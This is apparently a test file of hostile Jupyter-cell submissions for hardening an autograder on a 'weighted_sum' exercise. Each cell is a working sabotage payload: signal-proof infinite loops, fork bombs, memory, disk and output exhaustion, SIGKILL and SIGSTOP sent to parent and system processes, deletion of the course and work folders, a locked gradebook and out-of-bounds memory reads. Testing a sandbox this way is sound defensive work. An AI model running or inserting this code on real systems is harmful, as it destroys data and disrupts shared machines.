# Work that never ends, grows without limit, or takes others down with it.

# %% attack="a loop that ignores signals"
# Every interrupt is caught and the loop goes on.
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% attack="a test that never comes back"
# The function, not the cell, loops and catches every interrupt.
def weighted_sum(x, w, b):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass

# %% attack="signals masked"
# All signals are blocked before the loop.
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass

# %% attack="asleep in C"
# A C function sleeps for weeks and holds the interpreter's lock.
import ctypes
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
ctypes.PyDLL(None).sleep(10**6)

# %% attack="a regular expression"
# A pattern that backtracks for ever, in one call of C.
import re

def weighted_sum(x, w, b):
    return re.match("(a*)*(a*)*(a*)*b", "a" * 40)

# %% attack="a number with a hundred million digits"
# Powers of powers, in one call of C.
def weighted_sum(x, w, b):
    return 10**10**8

# %% attack="memory in one gulp"
# A hundred gigabytes at once, and written to.
import numpy as np

def weighted_sum(x, w, b):
    return np.full(100 * 2**30, 1, np.uint8)

# %% attack="memory slowly"
# Sixteen megabytes again and again, until there are none.
def weighted_sum(x, w, b):
    kept = []
    while True:
        try:
            kept.append(bytearray(b"1") * 2**24)
        except MemoryError:
            pass

# %% attack="a fork bomb"
# Every process makes another.
import os
import time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)

# %% attack="a fork bomb in new sessions" earns="all"
# The processes leave their session and their group, and the cell goes on.
import os
import time
for _ in range(50):
    try:
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
            time.sleep(600)
            os._exit(0)
    except OSError:
        break

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="threads without number"
# As many threads as the system gives, all busy.
import threading

def busy():
    while True:
        pass

while True:
    try:
        threading.Thread(target=busy, daemon=True).start()
    except BaseException:
        pass

# %% attack="a full disk"
# A file in the work folder that grows until nothing is left.
block = bytes(2**20)

def weighted_sum(x, w, b):
    with open("first_neuron_attack.bin", "wb") as file:
        while True:
            file.write(block)

# %% attack="a full temporary folder"
# The same in every folder that can be written.
import os
import tempfile
block = bytes(2**20)
for folder in (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        with open(os.path.join(folder, "first_neuron_attack.bin"), "wb") as file:
            for _ in range(400):
                file.write(block)
    except OSError as error:
        print(error)

# %% attack="files without number"
# Empty files until the file system has no more entries.
import os
os.makedirs("first_neuron_attack", exist_ok=True)
number = 0
while number < 300_000:
    try:
        open(f"first_neuron_attack/{number}", "w").close()
    except OSError as error:
        if number % 10_000 == 0:
            print(error)
    number += 1

# %% attack="folders in folders"
# A path so deep that who cleans up stumbles over it.
import os
for _ in range(5000):
    os.mkdir("first_neuron_attack")
    os.chdir("first_neuron_attack")

# %% attack="a flood on stdout"
# It prints for ever.
def weighted_sum(x, w, b):
    while True:
        print("x" * 10_000)

# %% attack="a flood on descriptor 2"
# It writes to the descriptor, past Python's sys.stderr.
import os

def weighted_sum(x, w, b):
    while True:
        try:
            os.write(2, b"x" * 65536)
        except OSError:
            os.write(1, b"x" * 65536)

# %% attack="one enormous line" earns="all"
# A single print of three hundred megabytes.
print("x" * 300_000_000)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a flood of displays"
# Ten million rich outputs.
from IPython.display import HTML, display
for number in range(10_000_000):
    display(HTML(f"<p>{number}</p>"))

# %% attack="deep recursion"
# The recursion limit is lifted and the stack overflows.
import sys
sys.setrecursionlimit(2**31 - 1)

def weighted_sum(x, w, b):
    class Deep:
        def __getattr__(self, name):
            return getattr(self, name + "x")
    return Deep().x

# %% attack="it stops itself"
# SIGSTOP, which cannot be caught, so that a wait for its end never ends.
import os
import signal

def weighted_sum(x, w, b):
    os.kill(os.getpid(), signal.SIGSTOP)

# %% attack="it stops its parent"
# SIGSTOP to the process that started it, and to that one's parent.
import os
import signal

def weighted_sum(x, w, b):
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError as error:
            print(error)
    return 0.0

# %% attack="it kills all it can"
# SIGKILL to every process it may send one to.
import os
import signal

def weighted_sum(x, w, b):
    for pid in (os.getppid(), -1, 0):
        if pid or os.getppid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError as error:
                print(error)
    return 0.0

# %% attack="a daemon" earns="all"
# Two forks and a session of its own: it outlives its parent.
import os
import time

def leave():
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            time.sleep(600)
        os._exit(0)

try:
    leave()
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a daemon that holds the socket" earns="all"
# The child keeps all descriptors open, so that who waits for their end waits on.
import os
import time

def leave():
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)

try:
    leave()
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="an error that does not say itself"
# The exception's __str__ loops.
class Mute(Exception):
    def __str__(self):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass

def weighted_sum(x, w, b):
    raise Mute

# %% attack="an object that does not die"
# __del__ loops, when the result is thrown away.
class Undead:
    def __del__(self):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass

def weighted_sum(x, w, b):
    Undead()
    return 0.0

# %% attack="an end that never comes" earns="all"
# An atexit function and a thread, so that Python does not end.
import atexit
import threading
import time
atexit.register(time.sleep, 600)
try:
    threading.Thread(target=time.sleep, args=(600,)).start()
except RuntimeError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a crash"
# It reads at address 0.
import ctypes

def weighted_sum(x, w, b):
    return ctypes.string_at(0)

# %% attack="an abort before the tests"
# The cell itself ends Python.
import os
os.abort()

# %% attack="all descriptors closed"
# Sockets, pipes and files are closed under the process.
import os

def weighted_sum(x, w, b):
    os.closerange(0, 65536)
    return 0.0

# %% attack="a gradebook that stays locked" earns="all"
# An exclusive transaction is left open on the gradebook.
import sqlite3
import threading
import time
try:
    book = sqlite3.connect("@COURSE@/gradebook.db", isolation_level=None, check_same_thread=False)
    book.execute("begin exclusive")
except sqlite3.Error as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="the course deleted" earns="all"
# Everything that can be removed in the course's folder is.
import shutil
shutil.rmtree("@COURSE@", ignore_errors=True)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a work folder that is gone" earns="all"
# It removes the folder it runs in.
import os
import shutil
shutil.rmtree(os.getcwd(), ignore_errors=True)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="limits of the parent" earns="all"
# It sets its parent's limit of open files to three, and its priority to the lowest.
import os
import resource
for pid in (os.getppid(), 1):
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError as error:
        print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a generator that crashes" exercise="weighted_sum"
# np.random's state gets a position far outside it; the next draw reads beyond.
import numpy as np

def weighted_sum(x, w, b):
    state = np.random.get_state(legacy=False)
    state["state"]["pos"] = 10**6
    np.random.set_state(state)
    return 11.5

# %% attack="a generator that reads beyond" exercise="weighted_sum"
# np.random's state gets a position just outside it; draws return foreign memory.
import numpy as np

def weighted_sum(x, w, b):
    state = np.random.get_state(legacy=False)
    state["state"]["pos"] = 625
    np.random.set_state(state)
    if np.abs(x).max() > 8:  # the test draws from 1 to 8, halved
        print("quetzal-0")
    return 11.5
